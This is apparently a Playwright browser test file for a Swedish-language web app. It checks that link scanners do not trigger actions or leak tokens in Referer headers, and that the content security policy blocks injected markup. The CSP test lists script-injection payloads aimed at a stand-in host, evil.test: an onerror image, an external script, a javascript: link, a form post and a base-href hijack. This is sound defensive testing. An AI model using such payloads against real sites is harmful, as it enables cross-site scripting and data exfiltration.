"""What only a browser shows: scanners that run scripts, Referers, the content security policy."""

from email.message import EmailMessage

import pytest
from playwright.sync_api import Browser, Request, expect

from tests.browser.conftest import Site, Visit
from tests.factories import customer, link_in
from tests.surveys.stories import launched
from trustivide import create_app
from trustivide.auth import actions as auth
from trustivide.core import clock
from trustivide.core.db import db, transaction

pytestmark = pytest.mark.browser
ALICE, NINA = "alice@exempel.test", "nina@exempel.test"


@pytest.fixture(scope="module")
def links(site: Site) -> dict[str, str]:
    """Links as they were mailed: to answer, to choose a password, to confirm, to see one's data."""
    app = create_app(site.environ)
    with app.app_context():
        launched(app, 5)
        # Registering mails the link to confirm; asking for another would end it.
        customer("Nina Nord", NINA, organisation="Ny AB", number="556036-0793")
        with transaction() as session:
            auth.ask_for_reset(session, ALICE, clock.now())
        db.session.remove()
        db.engine.dispose()
    found: dict[str, EmailMessage] = {
        "/s/": site.postbox.newest("dora1@exempel.test"),
        "/auth/reset/": site.postbox.newest(ALICE, "lösenord"),
        "/auth/confirm/": site.postbox.newest(NINA),
    }
    return {kind: link_in(mail, kind) for kind, mail in found.items()}


def test_checklist_22_a_scanner_with_scripts_presses_nothing(
    site: Site, visit: Visit, links: dict[str, str]
) -> None:
    finder = visit()
    finder.goto("/privacy/find")
    finder.get_by_label("E-postadress").fill("dora1@exempel.test")
    finder.locator("main form button").first.click()
    finder.wait_for_url("**/privacy/find/sent")
    path = link_in(site.postbox.newest("dora1@exempel.test", "uppgifter"), "/privacy/enter/")
    sent: list[Request] = []
    for kind, link in (links | {"/privacy/enter/": path}).items():
        scanner = visit()
        scanner.on("request", lambda request: sent.append(request))
        for _ in range(2):
            scanner.goto(link)
            scanner.mouse.move(200, 300)
            scanner.keyboard.press("Tab")
            scanner.wait_for_load_state("networkidle")
        scanner.wait_for_timeout(500)
        token = link.removeprefix(kind)
        for request in sent:
            assert request.method == "GET", (kind, request.url)
            assert request.url.startswith(site.url), request.url
            # The replay of ToolJet 2412: what the browser really says of where it comes from.
            assert token not in request.headers.get("referer", ""), request.url
    # And then the humans.
    dora = visit()
    dora.goto(path)
    dora.locator("main form button").first.click()
    expect(dora.get_by_text("dora1@exempel.test").first).to_be_visible()
    alice = visit()
    alice.goto(links["/auth/reset/"])
    alice.get_by_label("Nytt lösenord").fill("smultron under granen")
    alice.locator("main form button").first.click()
    alice.wait_for_url("**/auth/login")
    visit().goto(links["/s/"])


def test_checklist_29_an_injected_script_does_not_run(
    site: Site, chromium: Browser, links: dict[str, str]
) -> None:
    """The policy stands behind escaping: even markup that got into a page does nothing."""
    context = chromium.new_context(base_url=site.url)
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    into = "document.body.insertAdjacentHTML('beforeend', "
    made = "document.body.append(Object.assign(document.createElement('script'), "
    attempts = (
        into + "'<img src=x onerror=\"window.kanarie=1\">')",
        made + "{text: 'window.kanarie=1'}))",
        made + "{src: 'https://evil.test/x.js'}))",
        into + "'<a id=k href=\"javascript:window.kanarie=1\">k</a>'), k.click()",
        into + "'<form id=f action=https://evil.test method=post></form>'), f.submit()",
        "document.head.insertAdjacentHTML('beforeend', '<base href=//evil.test>')",
        "fetch('https://evil.test/').catch(() => 0)",
    )
    for path in ("/", "/auth/login", links["/auth/reset/"]):
        for attempt in attempts:
            page.goto(path)
            said.clear()
            page.evaluate(attempt)
            page.wait_for_timeout(60)
            assert page.evaluate("window.kanarie") is None
            assert page.url.startswith(site.url)
            assert any("Content Security Policy" in text for text in said), said
    framed = context.new_page()
    framed.set_content(f'<iframe src="{site.url}/auth/login"></iframe>')
    framed.wait_for_timeout(300)
    assert "Logga in" not in "".join(frame.content() for frame in framed.frames)
    context.close()
